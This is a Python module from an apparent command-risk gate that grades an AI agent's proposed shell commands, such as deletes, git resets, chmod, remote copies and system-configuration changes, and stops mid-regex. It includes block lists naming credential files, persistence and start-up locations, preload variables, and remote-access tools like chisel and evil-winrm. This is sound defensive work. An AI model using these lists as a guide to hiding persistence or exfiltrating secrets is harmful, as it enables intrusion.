"""Risk rules over parsed commands: program, flags (as each program defines them) and targets.

A rule sees one simple command from ``_parse.parse`` (wrappers removed, ``cd`` followed,
statically known values expanded) and rates it by what it would do to what: a recursive
delete is critical at the root, a home folder or the workspace itself, routine inside the
workspace or a temp folder. Levels:

- critical (denied by default): destroys data or credentials with no way back: recursive
  deletes of the root, a home folder, a system tree or the workspace (in any wrapping),
  writes to block devices and file-system tools, git commands that discard uncommitted work
  of the whole tree, credentials sent to the network,
  network or decoded code piped to a shell, reverse shells;
- high (asks): what a careful engineer would confirm: deletes outside the workspace, writes
  to system files, force pushes and history rewrites of a branch, credential reads, raw
  network connections;
- medium (allowed, reported): ``sudo``, reverting one file, ``kill``;
- low: everything routine, e.g. ``rm -rf build/ node_modules``, ``find . -name '*.pyc'
  -delete``, ``git push --force-with-lease``.
"""

from __future__ import annotations

import os
import posixpath
import re
from contextvars import ContextVar

from task_orchestrator.risk.installs import install_findings
from task_orchestrator.risk.shell import INTERPRETERS, NETWORK, SHELLS, Cmd, Parsed, Word, _home
from task_orchestrator.risk.text import CREDENTIAL_NAMES, RISK_ORDER

__all__ = ["CREDENTIAL_PATH", "judge_commands", "path_class", "tool_path_risk"]

Finding = tuple[str, str, str]  # (level, reason, rule id): the rules are listed in risk/packs/
_INSTALLERS = frozenset({"pip", "pip3", "uv", "poetry", "pipx", "npm", "pnpm", "yarn", "bun"})


class _LazyRe:
    """A pattern compiled on first use: a hook process compiles only what its command needs."""

    __slots__ = ("_args", "_re")

    def __init__(self, pattern: str, flags: int = 0) -> None:
        self._args = (pattern, flags)
        self._re: re.Pattern[str] | None = None

    def __getattr__(self, name: str):
        if self._re is None:
            self._re = re.compile(*self._args)
        return getattr(self._re, name)


# Secrets whose reading alone exposes them (to the model's provider, to logs): always asked.
# The one list of them is text.CREDENTIAL_NAMES; here anchored to a whole path.
CREDENTIAL_PATH = _LazyRe(r"(?:^|/)(?:" + CREDENTIAL_NAMES + r")(?:$|[?#])")
# Key and secret files a project keeps (test certificates, a server.key): asked outside it.
KEY_FILE = _LazyRe(
    r"(?:^|/)(?:[\w.-]*\.(?:pem|key|p12|pfx|jks|keystore)|master\.key|"
    r"credentials\.json|secrets?\.(?:ya?ml|json|toml)|\.npmrc|\.pypirc)$"
)
_SYSTEM = (
    "/etc",
    "/usr",
    "/bin",
    "/sbin",
    "/lib",
    "/lib32",
    "/lib64",
    "/libx32",
    "/boot",
    "/var",
    "/opt",
    "/srv",
    "/sys",
    "/proc",
    "/dev",
    "/System",
    "/Library",
    "/Applications",
    "/private/etc",
    "/private/var",
    "/snap",
)
_TEMP = ("/tmp", "/var/tmp", "/dev/shm", "/private/tmp", "/private/var/folders")
_HARMLESS_DEV = (
    "/dev/null",
    "/dev/stdout",
    "/dev/stderr",
    "/dev/tty",
    "/dev/zero",
    "/dev/random",
    "/dev/urandom",
    "/dev/fd/",
    "/proc/self/fd/",
)
_BLOCK_DEVICE = _LazyRe(r"^/dev/(?:sd|hd|vd|xvd|nvme|mmcblk|disk|rdisk|md|dm-|mapper/|loop|sr)")
# the gate's own policy files: an agent editing them is asked about (risk/policy.py)
_POLICY_FILE = _LazyRe(r"(?:^|/)(?:\.task-orchestrator\.toml|task-orchestrator/policy\.toml)$")
_STARTUP = _LazyRe(
    r"(?:^|/)\.(?:bashrc|bash_profile|bash_login|bash_aliases|profile|zshrc|zshenv|zprofile|"
    r"zlogin|zlogout|bash_logout|kshrc|mkshrc|cshrc|tcshrc|login|logout|xonshrc|yashrc|"
    r"config/fish/config\.fish|config/nushell/(?:config|env)\.nu|"
    r"config/powershell/[\w.]*profile\.ps1)$"
    r"|^/(?:private/)?etc/(?:profile|bashrc|bash\.bashrc|zshrc|zshenv|zprofile|zlogin|zsh/\w+|csh\.(?:cshrc|login)|"
    r"ksh\.kshrc|environment|profile\.d/[^/]+|fish/config\.fish)$"
)
# Start-up entries a user account runs at login or boot (system ones are system paths).
_STARTUP_ENTRY = _LazyRe(
    r"(?:^|/)(?:\.config/autostart/|\.config/systemd/user/|Library/"
    r"Launch(?:Agents|Daemons)/|Library/Preferences/com\.apple\."
    r"loginwindow|\.local/share/systemd/|\.xinitrc$|\.xprofile$|"
    r"\.config/fish/conf\.d/|Library/Application Support/com\.apple\."
    r"backgroundtaskmanagementagent|sitecustomize\.py$|usercustomize\.py$|"
    r"site-packages/[^/]+\.pth$|ld\.so\.preload$|"
    r"Library/StartupItems/|Library/Security/SecurityAgentPlugins/|Library/(?:Audio/Plug-Ins|QuickLook|"
    r"Spotlight|Extensions|Screen Savers|Workflows|Scripts/Folder Action Scripts)/|"
    r"Library/Preferences/com\.apple\.(?:loginitems|dock|loginwindow)[\w.]*\.plist$|"
    r"(?:^|/)etc/(?:periodic/|emond\.d/|launchd\.conf$|rc\.common$|rc\.local$|xdg/autostart/|"
    r"update-motd\.d/|cron[\w.]*(?:/|$)|anacrontab$|systemd/system/|init\.d/)|var/db/emondClients/|"
    r"var/spool/cron/|\.config/upstart/|\.kde4?/Autostart/|\.config/plasma-workspace/env/)"
)
_PRELOAD = _LazyRe(
    r"^(?:LD_PRELOAD|DYLD_INSERT_LIBRARIES|LD_AUDIT|PYTHONSTARTUP|"
    r"NODE_OPTIONS|BASH_ENV|ENV|PROMPT_COMMAND)=(.*)$"
)
_HISTORY_VARS = _LazyRe(
    r"^(?:HISTFILE|HISTSIZE|HISTFILESIZE|HISTCONTROL|HISTIGNORE|"
    r"SAVEHIST|HISTORY_IGNORE)="
)
_MAIN_BRANCHES = frozenset({"main", "master", "trunk", "develop", "production", "release"})


_ROOT_CHILDREN = (
    "bin",
    "boot",
    "dev",
    "etc",
    "home",
    "lib",
    "lib64",
    "opt",
    "root",
    "sbin",
    "srv",
    "usr",
    "var",
    "Users",
    "System",
    "Library",
    "Applications",
    "private",
)
_HOME_CHILDREN = (
    ".ssh",
    ".aws",
    ".gnupg",
    ".config",
    ".bashrc",
    ".profile",
    "Documents",
    "Desktop",
    "projects",
    "src",
    ".local",
    "Library",
)


# Folders a policy lets the agent delete in (``delete_ok``), for the judgement under way.
DELETE_OK: ContextVar[tuple[str, ...]] = ContextVar("delete_ok", default=())


def path_class(value: str, cwd: str | None, workspace: str | None) -> str:
    """root / home / system / workspace / git / inside / temp / outside / unknown / device.

    A glob in the last part is judged by what it can reach: ``/u*`` a system folder, ``.g*``
    the repository's ``.git``, ``~/[a-z]*`` most of a home folder."""
    if not value or value.startswith("$?") or "$" in value or "`" in value:
        return "unknown"
    head, _, last = value.rstrip("/").rpartition("/")
    if last and any(c in last for c in "*?[") and last not in ("*", ".*"):
        return _glob_class(
            head if value.startswith("/") or head else (head or "."),
            last,
            value.startswith("/"),
            cwd,
            workspace,
        )
    return _path_class(value, cwd, workspace)


def _glob_class(parent: str, pattern: str, absolute: bool, cwd: str | None, workspace: str | None) -> str:
    from fnmatch import fnmatchcase

    parent = parent or ("/" if absolute else ".")
    cls = _path_class(parent, cwd, workspace)
    if cls == "root":
        hits = [n for n in _ROOT_CHILDREN if fnmatchcase(n, pattern)]
        if hits:
            return "home" if set(hits) <= {"home", "root", "Users"} else "system"
        return "outside"
    if cls == "workspace":
        return (
            "git"
            if fnmatchcase(".git", pattern)
            else ("workspace" if fnmatchcase("src", pattern) and fnmatchcase("tests", pattern) else "inside")
        )
    if cls == "home":
        hits = [n for n in _HOME_CHILDREN if fnmatchcase(n, pattern)]
        return "home" if len(hits) >= 3 or {".ssh", ".aws", ".gnupg"} & set(hits) else "home-file"
    return _path_class(parent.rstrip("/") + "/" + pattern, cwd, workspace)


def _path_class(value: str, cwd: str | None, workspace: str | None) -> str:
    home = _home().rstrip("/") or "/root"
    if not posixpath.isabs(value):
        if cwd is None:
            path = posixpath.normpath(value)
            if path in (".", "*") or path.startswith(".."):
                return "workspace" if path in (".", "*") else "outside"
            return "git" if path == ".git" or path.startswith(".git/") else "inside"
        value = posixpath.join(cwd, value)
    path = posixpath.normpath(value)
    if path.startswith("//"):
        path = "/" + path.lstrip("/")
    glob = path.endswith("/*") or path.endswith("/.*") or path == "/*"
    base = path[:-2] if path.endswith("/*") else path[:-3] if path.endswith("/.*") else path
    base = base or "/"
    if base == "/":
        return "root"
    if path.startswith("/proc/self/fd/"):
        return "harmless"
    if path.startswith("/dev/"):
        return (
            "device"
            if _BLOCK_DEVICE.match(path)
            else ("harmless" if path.startswith(_HARMLESS_DEV) else "system")
        )
    if base in (home, "/home", "/Users", "/root"):
        return "home"  # also when the workspace contains it (cwd /home, HOME=/home/me)
    for folder in DELETE_OK.get():
        if base == folder or base.startswith(folder + "/"):
            return "inside"  # a folder the policy lets the agent delete in
    ws = posixpath.normpath(workspace) if workspace else None
    if ws and ws != "/":
        if base == ws:
            return "workspace"
        if base == ws + "/.git" or base.startswith(ws + "/.git/"):
            return "git"
        if base.startswith(ws + "/"):
            return "inside"
    if base in (home, "/home", "/Users", "/root") or (
        base.startswith(("/home/", "/Users/")) and base.count("/") == 2
    ):
        return "home"
    if base.startswith(tuple(t + "/" for t in _TEMP)) or (base in _TEMP and glob):
        return "temp"
    if base in _TEMP:
        return "outside"
    if re.match(
        re.escape(home) + r"/(?:\.cache|\.npm/_cacache|\.cargo/registry|\.gradle/caches|"
        r"\.m2/repository|Library/Caches|\.local/share/Trash|\.pnpm-store|\.yarn/cache)"
        r"(?:/|$)",
        base,
    ):
        return "temp"  # caches: rebuilt on demand
    if base.startswith(home + "/"):
        return "home-file"
    for s in _SYSTEM:
        if base == s or base.startswith(s + "/"):
            return "system"
    return "outside"


# What a filtered find (-name, -type, -mtime...) reaches under its start path.
_UNDER = {
    "workspace": "inside",
    "git": "inside",
    "outside": "found-outside",
    "home-file": "found-outside",
    "root": "found-wide",
    "home": "found-wide",
    "system": "found-wide",
}


def _targets(cmd: Cmd, words: list[Word], cwd: str | None, ws: str | None) -> list[tuple[str, str]]:
    out = []
    for w in words:
        if w.found_under:
            for s in w.found_under:
                cls = path_class(s, cwd, ws)
                if cls == "outside" and posixpath.normpath(s) in _TEMP:
                    cls = "temp"  # under /tmp
                out.append((_UNDER.get(cls, cls) if w.filtered else cls, s))
        elif not w.static and re.match(r"^/(?:home|Users)/\$\{?\w+\}?/?$", w.value):
            out.append(("home", w.value))
        elif not w.static:
            rest = re.sub(r"^(?:\$\{?\w+\}?|\"\$\{?\w+\}?\")", "", w.value)
            out.append(("unknown-root" if rest in ("", "/", "/*", "*") else "unknown", w.value))
        else:
            out.append((path_class(w.value, cwd, ws), w.value))
    return out


def _flags(args: list[Word]) -> tuple[set[str], list[Word]]:
    """Short flags (split) and long flags of a GNU-style command; operands after them."""
    flags: set[str] = set()
    operands: list[Word] = []
    done = False
    for w in args:
        v = w.value
        if done or not v.startswith("-") or v == "-" or not w.static:
            operands.append(w)
        elif v == "--":
            done = True
        elif v.startswith("--"):
            flags.add(v.split("=", 1)[0])
        else:
            flags.update("-" + ch for ch in v[1:])
    return flags, operands


_DELETE_LEVEL = {  # (class, recursive) -> level
    ("root", True): "critical",
    ("home", True): "critical",
    ("system", True): "critical",
    ("workspace", True): "critical",
    ("git", True): "critical",
    ("device", True): "critical",
    ("root", False): "high",
    ("home", False): "high",
    ("system", False): "high",
    ("workspace", False): "high",
    ("git", False): "high",
    ("home-file", True): "high",
    ("home-file", False): "medium",
    ("outside", True): "high",
    ("outside", False): "medium",
    ("unknown-root", True): "high",
    ("unknown-root", False): "medium",
    ("unknown", True): "medium",
    ("found-wide", True): "high",
    ("found-wide", False): "high",
    ("found-outside", True): "high",
    ("found-outside", False): "medium",
}
_CLASS_NAME = {
    "root": "the root",
    "home": "a home folder",
    "system": "a system path",
    "workspace": "the workspace itself",
    "git": "the repository's .git",
    "device": "a device",
    "home-file": "files outside the workspace (home)",
    "outside": "outside the workspace",
    "unknown-root": "a path that may expand to /",
    "unknown": "a path known only at run time",
    "found-wide": "matching files anywhere under",
    "found-outside": "matching files outside the workspace, under",
}


# a command word that is one command substitution, other than a lookup of a program by name
_COMPUTED_PROGRAM = _LazyRe(
    r"^[\"]?(?:\$\(|`)(?!\s*(?:which|command\s+-v|type\s+-[pP]|realpath|readlink|pwd|git\s+rev-parse)\b)"
    r"[^)`]*(?:\)|`)[\"]?$"
)


def _in_project(cls: str, ws: str | None) -> bool:
    """A path inside a workspace (or a temp folder) that is not the home folder itself."""
    if cls not in ("inside", "temp"):
        return False
    home = _home().rstrip("/")
    return not (ws and (posixpath.normpath(ws) == home or home.startswith(posixpath.normpath(ws) + "/")))


def _delete_id(cls: str, recursive: bool) -> str:
    """The rule of a delete: by what it reaches, and whether it recurses."""
    return f"deletes.{'recursive-' if recursive else ''}{cls}"


def _worst(findings: list[Finding]) -> str:
    return max((f[0] for f in findings), key=RISK_ORDER.__getitem__, default="low")


def _rm(cmd: Cmd, ws: str | None) -> list[Finding]:
    flags, operands = _flags(cmd.argv[1:])
    # find walks its start paths: unfiltered, it reaches everything under them
    recursive = bool(flags & {"-r", "-R", "--recursive"}) or any(
        w.found_under and not w.filtered for w in operands
    )
    if "--no-preserve-root" in flags:
        return [("critical", "recursive delete with --no-preserve-root", "deletes.no-preserve-root")]
    out = []
    for cls, value in _targets(cmd, operands, cmd.cwd, ws):
        level = _DELETE_LEVEL.get((cls, recursive))
        if level:
            kind = "recursive delete" if recursive else "delete"
            out.append((level, f"{kind} of {_CLASS_NAME[cls]} ({value})", _delete_id(cls, recursive)))
    if cmd.from_input and recursive and not operands:
        out.append(("medium", "recursive delete of paths read from input", "deletes.from-input"))
    confirmed = (
        flags & {"-i", "--interactive"} or any(w.startswith("find -ok") for w in cmd.wrappers)
    ) and cmd.stdin is None
    if confirmed:  # the program asks before each file (and nothing answers for the user)
        out = [
            ("medium", f"{why}, confirmed per file", "deletes.confirmed-per-file")
            if lvl in ("high", "critical")
            else (lvl, f"{why}, confirmed per file", rule)
            for lvl, why, rule in out
        ]
    return out


_STATE_CACHE: dict[tuple[str, bool], tuple[float, dict[str, int] | None]] = {}


def git_state(cwd: str | None, ignored: bool = False) -> dict[str, int] | None:
    """What uncommitted work a repository holds: counts of changed tracked files, untracked
    (and, with ``ignored``, ignored) files, and stashes. None when it cannot be read within
    ~0.3 s (no repository, no git, a huge tree). Runs ``git status`` with no optional locks
    and no fsmonitor program; cached for 2 s per folder."""
    import subprocess
    import time

    if not cwd or not posixpath.isabs(cwd):
        return None
    key = (cwd, ignored)
    hit = _STATE_CACHE.get(key)
    now = time.monotonic()
    if hit is not None and now - hit[0] < 2.0:
        return hit[1]
    argv = ["git", "-C", cwd, "-c", "core.fsmonitor=false", "status", "--porcelain=v2", "--show-stash", "-z"]
    if ignored:
        argv.append("--ignored=traditional")
    env = {k: v for k, v in os.environ.items() if not k.startswith("GIT_")}
    env["GIT_OPTIONAL_LOCKS"] = "0"
    state: dict[str, int] | None
    try:
        done = subprocess.run(argv, capture_output=True, timeout=0.3, env=env, stdin=subprocess.DEVNULL)
        if done.returncode != 0:
            state = None
        else:
            state = {"tracked": 0, "untracked": 0, "ignored": 0, "stashes": 0}
            for entry in done.stdout.decode("utf-8", "replace").split("\0"):
                if entry.startswith(("1 ", "2 ", "u ")):
                    state["tracked"] += 1
                elif entry.startswith("? "):
                    state["untracked"] += 1
                elif entry.startswith("! "):
                    state["ignored"] += 1
                elif entry.startswith("# stash "):
                    state["stashes"] = int(entry.split()[-1])
    except (OSError, subprocess.SubprocessError, ValueError):
        state = None
    if len(_STATE_CACHE) > 64:
        _STATE_CACHE.clear()
    _STATE_CACHE[key] = (now, state)
    return state


def _at_stake(
    what: str, count: int | None, action: str, rule: str, known_level: str = "high"
) -> list[Finding]:
    """A command that throws away uncommitted work: critical when the repository shows
    some, nothing when it shows none, ``known_level`` when it cannot be read."""
    if count is None:
        unread = "git.discards-unread-state" if known_level == "high" else rule
        return [(known_level, f"{action} (the repository's state could not be read)", unread)]
    if count:
        return [("critical", f"{action}: {count} {what} would be lost for good", rule)]
    return []


def _shred(cmd: Cmd, ws: str | None) -> list[Finding]:
    """shred/srm/wipe: overwrites contents with no way back; a key or a folder outside the
    workspace is lost for good."""
    operands = [w for w in cmd.argv[1:] if not w.value.startswith("-")]
    for cls, value in _targets(cmd, operands, cmd.cwd, ws):
        if secret_path(value) or cls in ("root", "home", "system", "device", "workspace", "git"):
            what = "a credential" if secret_path(value) else _CLASS_NAME[cls]
            return [
                ("critical", f"{cmd.prog} destroys {what} for good ({value})", "deletes.shred-irreplaceable")
            ]
    return [("high", f"{cmd.prog} destroys file contents", "deletes.shred")]


def _git(cmd: Cmd, ws: str | None, stashed: bool = False) -> list[Finding]:
    args = cmd.args
    i = 0
    where = cmd.cwd
    while i < len(args) and args[i].startswith("-"):
        if args[i] == "-C" and i + 1 < len(args):
            where = (
                posixpath.normpath(posixpath.join(where or "", args[i + 1]))
                if (where or args[i + 1].startswith("/"))
                else None
            )
        elif args[i] in ("--git-dir", "--work-tree") or args[i].startswith(("--git-dir=", "--work-tree=")):
            where = None  # another repository than the folder's
        i += 2 if args[i] in ("-C", "-c", "--git-dir", "--work-tree", "--namespace") else 1
    if i >= len(args):
        return []
    if any(a.startswith(("GIT_DIR=", "GIT_WORK_TREE=")) for a in cmd.assigns):
        where = None
    sub, rest = args[i], args[i + 1 :]
    flags = set(rest)
    paths = rest[rest.index("--") + 1 :] if "--" in rest else []
    roots = {".", "*", ":/", "./", ":/*", ws or ".", cmd.cwd or "."}
    whole = lambda ps: any(p.rstrip("/") in roots or p in roots for p in ps)  # noqa: E731
    read: list[dict[str, int] | None] = []  # the repository's state, read on first need

    def count(kind: str, ignored: bool = False) -> int | None:
        if not read or ignored:
            read[:] = [git_state(where, ignored)]
        state = read[0]
        if state is None:
            return None
        return sum(state[k] for k in kind.split("+"))

    if sub == "reset" and "--hard" in flags:
        found = _at_stake(
            "changed files",
            count("tracked"),
            "git reset --hard discards uncommitted changes",
            "git.discards-changes",
            "critical",
        )
        return found or [
            ("medium", "git reset --hard (nothing uncommitted to lose now)", "git.reset-hard-clean")
        ]
    if sub == "checkout":
        if whole(paths) or (not paths and whole(rest)):
            return _at_stake(
                "changed files",
                count("tracked"),
                "git checkout of the whole tree discards uncommitted changes",
                "git.discards-changes",
                "critical",
            )
        if "-f" in flags or "--force" in flags:
            return _at_stake(
                "changed files",
                count("tracked"),
                "git checkout --force discards uncommitted changes",
                "git.discards-changes",
            )
        if paths:
            return [
                (
                    "medium",
                    "git checkout -- reverts uncommitted changes to " + ", ".join(paths),
                    "git.reverts-files",
                )
            ]
        return []
    if sub == "switch" and ({"-f", "--force", "--discard-changes"} & flags):
        return _at_stake(
            "changed files",
            count("tracked"),
            "git switch --discard-changes drops uncommitted changes",
            "git.discards-changes",
        )
    if sub == "rm" and "--cached" not in flags and whole([a for a in rest if not a.startswith("-")]):
        return [("critical", "git rm of the whole tree deletes the working files", "git.removes-whole-tree")]
    if sub == "read-tree" and "--reset" in flags and "-u" in flags:
        return [
            ("critical", "git read-tree -u --reset discards uncommitted changes", "git.removes-whole-tree")
        ]
    if sub == "restore":
        if ("--staged" in flags or "-S" in flags) and not ({"--worktree", "-W"} & flags):
            return []
        targets = [a for a in rest if not a.startswith("-")]
        if whole(targets):
            return _at_stake(
                "changed files",
                count("tracked"),
                "git restore of the whole tree discards uncommitted changes",
                "git.discards-changes",
                "critical",
            )
        return [
            (
                "medium",
                "git restore reverts uncommitted changes to " + ", ".join(targets),
                "git.reverts-files",
            )
        ]
    if sub == "clean":
        short = {c for a in rest if a.startswith("-") and not a.startswith("--") for c in a[1:]}
        if ("f" in short or "--force" in flags) and "n" not in short and "--dry-run" not in flags:
            ignored = "x" in short or "X" in short
            kinds = "untracked+ignored" if ignored else "untracked"
            return _at_stake(
                "untracked files" + (" or ignored files" if ignored else ""),
                count(kinds, ignored),
                "git clean deletes untracked files",
                "git.deletes-untracked",
            )
        return []
    if sub == "stash" and rest[:1] in (["clear"], ["drop"]):
        n = count("stashes")
        if stashed and n is not None:
            n += count("tracked+untracked") or 0  # stashed earlier in this line, then dropped
        what = "every stash" if rest[:1] == ["clear"] else "a stash"
        return _at_stake("stashed changes", n, f"git stash {rest[0]} drops {what}", "git.drops-stash")
    if sub == "push":
        lease = any(a.startswith(("--force-with-lease", "--force-if-includes")) for a in rest)
        force = not lease and (
            "--force" in flags or "-f" in flags or any(a.startswith("+") for a in rest) or "--mirror" in flags
        )
        if force:  # asked, not denied: the remote keeps a reflog, and a human may mean it
            refs = {a.lstrip("+").split(":")[-1] for a in rest if not a.startswith("-")}
            shared = " of a shared branch" if refs & _MAIN_BRANCHES else ""
            return [("high", f"force push rewrites a remote branch{shared}", "git.force-push")]
        if "--delete" in flags or "-d" in flags:
            return [("medium", "git push --delete removes a remote branch", "git.deletes-remote-branch")]
        return []
    if sub == "branch" and ("-D" in flags or ({"--delete", "-d"} & flags and {"--force", "-f"} & flags)):
        return [
            ("high", "git branch -D deletes a branch with unmerged commits", "git.deletes-unmerged-branch")
        ]
    if sub in ("filter-branch", "filter-repo"):
        return [("high", f"git {sub} rewrites history", "git.rewrites-history")]
    if (sub == "reflog" and rest[:1] == ["expire"]) or (sub == "update-ref" and "-d" in flags):
        return [("high", f"git {sub} drops history", "git.drops-history")]
    if sub == "gc" and any(a.startswith("--prune=now") for a in rest):
        return [("high", "git gc --prune=now drops unreachable commits", "git.drops-history")]
    return []


def _perms(cmd: Cmd, ws: str | None) -> list[Finding]:
    flags, operands = _flags(cmd.argv[1:])
    recursive = "-R" in flags or "--recursive" in flags
    spec = operands[0].value if operands else ""
    out: list[Finding] = []
    world = False
    if cmd.prog == "chmod":
        if re.match(r"^(?:[ua]*\+[rwxX]*s|[4567][0-7]{3}$)", spec):
            out.append(("high", f"chmod {spec} sets setuid", "permissions.setuid"))
        elif re.match(r"^(?:[go]*\+[rwxX]*s|2[0-7]{3}$)", spec):
            out.append(("medium", f"chmod {spec} sets setgid", "permissions.setgid"))
        world = bool(re.match(r"^0?[0-7]{2}[2367]$|^[ugo]*[oa][ugo]*[+=][rwxXst]*w", spec))
    elif re.match(r"^(?:root|0)(?::|$)", spec):
        out.append(("medium", f"{cmd.prog} to root", "permissions.to-root"))
    for cls, value in _targets(cmd, operands[1:], cmd.cwd, ws):
        if cls in ("root", "home", "system") and recursive and cmd.prog != "chgrp":
            out.append(
                (
                    "critical",
                    f"recursive {cmd.prog} of {_CLASS_NAME[cls]} ({value})",
                    "permissions.recursive-system",
                )
            )
        elif cls in ("root", "home", "system") and world:
            out.append(
                (
                    "critical",
                    f"world-writable {_CLASS_NAME[cls]} ({value})",
                    "permissions.world-writable-system",
                )
            )
        elif world:
            out.append(("medium", f"world-writable permissions ({value})", "permissions.world-writable"))
        elif recursive and cls in ("outside", "home-file", "unknown-root", "workspace"):
            out.append(
                ("medium", f"recursive {cmd.prog} of {_CLASS_NAME[cls]} ({value})", "permissions.recursive")
            )
        elif cls == "system" and cmd.prog == "chown":
            out.append(("high", f"{cmd.prog} of a system path ({value})", "permissions.chown-system"))
    return out


_REMOTE = _LazyRe(r"^(?:[\w.-]+@)?[\w.-]+:(?!//)|^(?:rsync|sftp|scp)://")
_COPY_WITH_ARG = frozenset(
    "-P -i -o -F -l -c -J -S -e --rsh --port --exclude --include "
    "--filter -f --files-from --password-file --rsync-path".split()
)


def _sync_delete(cmd: Cmd, ws: str | None) -> list[Finding]:
    """``rsync --delete SRC DST`` deletes what DST has and SRC lacks: a delete of DST."""
    if not any(a.startswith(("--delete", "--del")) or a == "--remove-source-files" for a in cmd.args):
        return []
    operands = [w for w in cmd.argv[1:] if not w.value.startswith("-")]
    if len(operands) < 2 or _REMOTE.match(operands[-1].value):
        return []
    cls, value = _targets(cmd, operands[-1:], cmd.cwd, ws)[0]
    level = _DELETE_LEVEL.get((cls, True))
    return (
        [(level, f"rsync --delete empties {_CLASS_NAME[cls]} ({value})", _delete_id(cls, True))]
        if level
        else []
    )


def _moves(cmd: Cmd, ws: str | None) -> list[Finding]:
    """``mv`` of the root, a home folder, a system tree or the workspace away."""
    operands = [w for w in cmd.argv[1:] if not w.value.startswith("-")]
    out: list[Finding] = []
    for cls, value in _targets(cmd, operands[:-1], cmd.cwd, ws):
        if cls in ("root", "home", "system"):
            out.append(("high", f"moves {_CLASS_NAME[cls]} away ({value})", "deletes.moves-away"))
        elif cls in ("workspace", "git"):  # recoverable: moved, not deleted
            out.append(("medium", f"moves {_CLASS_NAME[cls]} away ({value})", "deletes.moves-workspace"))
    return out


def _remote_copy(cmd: Cmd) -> list[Finding]:
    """scp/sftp/rsync: sending files to a remote host, judged by what is sent."""
    operands: list[Word] = []
    skip = False
    for w in cmd.argv[1:]:
        if skip:
            skip = False
        elif w.value in _COPY_WITH_ARG or re.match(r"^-[a-zA-Z]*[ePioFlcJS]$", w.value):
            skip = True
        elif not w.value.startswith("-"):
            operands.append(w)
    if len(operands) < 2:
        return []
    if not _REMOTE.match(operands[-1].value):
        if any(_REMOTE.match(w.value) for w in operands[:-1]):
            return [
                ("medium", f"copies files from a remote host ({operands[0].value})", "network.remote-copy")
            ]
        return []
    for w in operands[:-1]:
        hit = next((p for p in word_paths(w) if secret_path(p)), None)
        if hit:
            return [("critical", f"copies credentials to a remote host ({hit})", "credentials.sends")]
    return [("medium", f"copies files to a remote host ({operands[-1].value})", "network.remote-copy")]


# Programs that change the host's configuration, services, kernel, accounts or schedule: a
# coding agent's work never needs them, so a human confirms. None: any use; a set: the
# subcommands or flags that change something (the rest only read).
_SYSTEM_CHANGE: dict[str, frozenset[str] | None] = {
    "systemctl": frozenset(
        "stop disable mask kill isolate set-default enable daemon-reload "
        "link edit revert set-property".split()
    ),
    "service": frozenset({"stop", "disable"}),
    "launchctl": frozenset(
        "load unload bootstrap bootout submit remove disable enable setenv asuser kickstart".split()
    ),
    "sysctl": frozenset({"-w", "--write", "-p", "--load"}),
    "defaults": frozenset({"write", "delete", "import", "rename"}),
    "auditctl": frozenset({"-D", "-e", "-W", "-w", "-a", "-A", "-d", "-R", "-b", "-f"}),
    "ufw": frozenset("disable delete reset allow deny reject limit logging default".split()),
    "iptables": frozenset(
        "-F -X -D -A -I -P -R -Z -N -E --flush --delete --append --insert --policy".split()
    ),
    "ip6tables": frozenset("-F -X -D -A -I -P -R -Z -N -E --flush --policy".split()),
    "nft": frozenset({"flush", "delete", "add", "insert", "replace", "create", "destroy"}),
    "pfctl": frozenset({"-d", "-F", "-f", "-e"}),
    "setenforce": None,
    "modprobe": None,
    "insmod": None,
    "rmmod": None,
    "kextload": None,
    "kextunload": None,
    "kmutil": frozenset({"load", "unload"}),
    "swapoff": None,
    "chflags": None,
    "spctl": frozenset({"--master-disable", "--disable", "--add", "--global-disable"}),
    "csrutil": frozenset({"disable"}),
    "tccutil": frozenset({"reset"}),
    "update-rc.d": None,
    "chkconfig": None,
    "rc-update": frozenset({"add", "del"}),
    "sysrc": None,
    "crontab": frozenset({"-r", "-", "-i"}),
    "at": None,
    "atrun": None,
    "useradd": None,
    "userdel": None,
    "usermod": None,
    "adduser": None,
    "deluser": None,
    "groupadd": None,
    "groupdel": None,
    "groupmod": None,
    "chpasswd": None,
    "chage": None,
    "visudo": None,
    "sysadminctl": None,
    "dseditgroup": frozenset({"-o"}),
    "dscl": frozenset({"-create", "-delete", "-append", "-passwd", "-merge", "-change"}),
    "pw": frozenset("useradd usermod userdel groupadd groupmod groupdel lock".split()),
    "timedatectl": frozenset({"set-time", "set-timezone", "set-ntp"}),
    "hostnamectl": frozenset({"set-hostname", "hostname"}),
    "scutil": frozenset({"--set"}),
    "networksetup": None,
    "nvram": None,
    "pmset": None,
    "systemsetup": None,
    "journalctl": frozenset({"--vacuum-size", "--vacuum-time", "--vacuum-files", "--rotate", "--flush"}),
    "log": frozenset({"erase", "config"}),
    "shutdown": None,
    "reboot": None,
    "halt": None,
    "poweroff": None,
    "init": frozenset({"0", "6"}),
    "sfltool": None,
    "profiles": frozenset({"install", "remove"}),
}
_REMOTE_ACCESS = frozenset(
    {
        "ngrok",
        "cloudflared",
        "chisel",
        "frpc",
        "frps",
        "localtunnel",
        "lt",
        "sshpass",
        "psexec",
        "psexec.py",
        "wmiexec.py",
        "smbexec.py",
        "atexec.py",
        "evil-winrm",
        "crackmapexec",
        "proxychains",
        "proxychains4",
        "tor",
        "autossh",
    }
)


def _system_change(cmd: Cmd) -> list[Finding]:
    spec = _SYSTEM_CHANGE.get(cmd.prog)
    if cmd.prog not in _SYSTEM_CHANGE:
        return []
    args = cmd.args
    if cmd.prog == "crontab":  # `crontab file` installs a table; -l only lists it
        installs = [a for a in args if not a.startswith("-")] or "-" in args
        if installs or {"-r", "-i"} & set(args):
            return [("high", "changes the system's configuration (crontab)", "system.configuration")]
        return []
    if cmd.prog == "sysctl" and any("=" in a for a in args):
        return [("high", "changes the system's configuration (sysctl)", "system.configuration")]
    flags = {a.split("=", 1)[0] for a in args}
    if (
        spec is None
        and (
            args or cmd.prog in ("setenforce", "swapoff", "visudo", "reboot", "halt", "poweroff", "shutdown")
        )
    ) or (spec is not None and flags & spec):
        what = next((a for a in args if spec and a.split("=", 1)[0] in spec), "")
        return [
            (
                "high",
                f"changes the system's configuration ({cmd.prog} {what}".rstrip() + ")",
                "system.configuration",
            )
        ]
    return []


_CLOUD = frozenset(
    {
        "aws",
        "gcloud",
        "az",
        "kubectl",
        "oc",
        "terraform",
        "tofu",
        "pulumi",
        "gsutil",
        "doctl",
        "oci",
        "eksctl",
        "stratus",
        "helm",
        "ibmcloud",
    }
)
_CLOUD_VERB = _LazyRe(
    r"^(?:create|delete|put|update|modify|attach|detach|run|stop|terminate|authorize|revoke|"
    r"remove|add|set|enable|disable|deregister|register|associate|disassociate|import|replace|"
